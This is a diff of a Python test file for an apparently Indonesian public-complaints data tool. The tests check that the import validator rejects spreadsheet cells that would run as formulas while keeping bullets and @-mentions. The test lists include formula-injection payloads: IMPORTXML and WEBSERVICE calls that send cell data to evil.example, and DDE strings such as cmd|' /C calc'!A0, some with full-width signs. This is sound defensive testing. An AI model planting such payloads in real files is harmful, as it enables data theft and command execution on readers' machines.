@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import unicodedata
 from pathlib import Path
 
 import openpyxl
@@ -228,12 +229,28 @@ FORMULAS = [
     '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
     '=WEBSERVICE("http://evil.example/"&B2)',
     "-HYPERLINK(1)",
+    "\uff1dcmd|' /C calc'!A0",  # full-width = (East Asian Excel reads it as =)
+    "\uff0bHYPERLINK(1)",
+    "=1+1",  # any formula at all
 ]
-PLAIN = ["-", "--", "T-001", "+62 812 3344 5566", "-5,5", "2026-03-02", "Laweyan", "1/2"]
+PLAIN = [
+    "-",
+    "--",
+    "T-001",
+    "+62 812 3344 5566",
+    "-5,5",
+    "2026-03-02",
+    "Laweyan",
+    "1/2",
+    "@dinkesblora tolong jalan depan pasar",  # a citizen's mention
+    "- Lampu PJU mati",  # a bullet
+    "- Lampu (PJU) mati sejak Senin!",
+    "+/- 3 bulan jalan rusak",
+]
 
 
 def test_formula_cells_are_told_apart_from_plain_ones():
-    from generator.opendata.cells import runs_as_formula
+    from generator.safeinput.formulas import runs_as_formula
 
     assert all(runs_as_formula(f) for f in FORMULAS)
     assert not any(runs_as_formula(p) for p in PLAIN)
@@ -269,13 +286,13 @@ def test_a_cell_a_spreadsheet_would_run_is_not_written_into_the_repository(
     for row, formula in enumerate(FORMULAS, start=2):
         if formula[0] == "=":
             continue  # a workbook's formula is read as its value (none here): never as text
-        assert f"rekap.xlsx:{row}:4: error: Judul (Aduan!D{row}): diawali '{formula[0]}'" in err
+        sign = unicodedata.normalize("NFKC", formula)[0]  # summaries are normalized first
+        assert f"rekap.xlsx:{row}:4: error: Judul (Aduan!D{row}): diawali '{sign}'" in err
     last = len(FORMULAS) + 2
     assert f"rekap.xlsx:{last}:1: error: Nomor Tiket (Aduan!A{last}): diawali '-'" in err
     assert f"rekap.xlsx:{last}:5: error: Kecamatan (Aduan!E{last}): diawali '@'" in err
-    assert f"rekap.xlsx:{last + 1}:4: error: Judul (Aduan!D{last + 1}): diawali '-'" in err
-    assert f":{last + 1}:5:" not in err  # a lone dash stands for nothing
-    assert err.count(": error: ") == sum(f[0] != "=" for f in FORMULAS) + 4  # the Kecamatan twice
+    assert f":{last + 1}:" not in err  # a bullet, and a lone dash that stands for nothing
+    assert err.count(": error: ") == sum(f[0] != "=" for f in FORMULAS) + 3  # Kecamatan twice
     assert not (tmp_path / "y.csv").exists()
     # The same cells as a CSV export brings them: as text, formulas included.
     with open("rekap.csv", "w", encoding="utf-8", newline="") as fh:
@@ -287,8 +304,32 @@ def test_a_cell_a_spreadsheet_would_run_is_not_written_into_the_repository(
     assert main(["import", "--format", "lapor", "rekap.csv", "--out", "y.csv"]) == 1
     err = capsys.readouterr().err
     for row, formula in enumerate(FORMULAS, start=2):
-        assert f"rekap.csv:{row}:4: error: Judul: diawali '{formula[0]}'" in err
+        sign = unicodedata.normalize("NFKC", formula)[0]
+        assert f"rekap.csv:{row}:4: error: Judul: diawali '{sign}'" in err
     # "-" is an empty cell: a status is required (not "status '-' tidak dikenal")
-    assert "rekap.csv:10:5: error: Status: wajib diisi" in err
+    assert f"rekap.csv:{len(FORMULAS) + 2}:5: error: Status: wajib diisi" in err
     assert err.count(": error: ") == len(FORMULAS) + 1
     assert not (tmp_path / "y.csv").exists()
+
+
+def test_kanal_check_refuses_a_formula_in_the_repository(tmp_path, monkeypatch):
+    """The same rule for a file a pull request brings by hand: refused at its cell by kanal
+    check (the build too), whichever way the file is read; a bullet or a mention is kept."""
+    from tests.complaints_util import run_check
+
+    header = "id,agency,channel,category,received,first_response,resolved,status,kecamatan,summary"
+    row = "T-{n},dinas-kesehatan,lapor,sampah,2026-03-02T09:00+07:00,,,open,{kec},{summary}"
+    rows = [
+        row.format(n=1, kec="Laweyan", summary="- Lampu PJU mati"),
+        row.format(n=2, kec="Laweyan", summary="@dinkes tolong"),
+        row.format(n=3, kec="Laweyan", summary='"=HYPERLINK(""http://x.invalid/?""&A1,""klik"")"'),
+        row.format(n=4, kec="@SUM(1+1)", summary=""),
+        "-2+3+cmd|' /C calc'!A0" + row.format(n=5, kec="", summary="")[3:],
+    ]
+    _, problems = run_check(tmp_path, monkeypatch, {"a.csv": "\n".join([header, *rows]) + "\n"})
+    formulas = [p for p in problems if "berisi rumus" in p]
+    assert [p.split(": error: ")[0] for p in formulas] == [
+        "data/complaints/a.csv:4:10",
+        "data/complaints/a.csv:5:9",
+        "data/complaints/a.csv:6:1",
+    ]
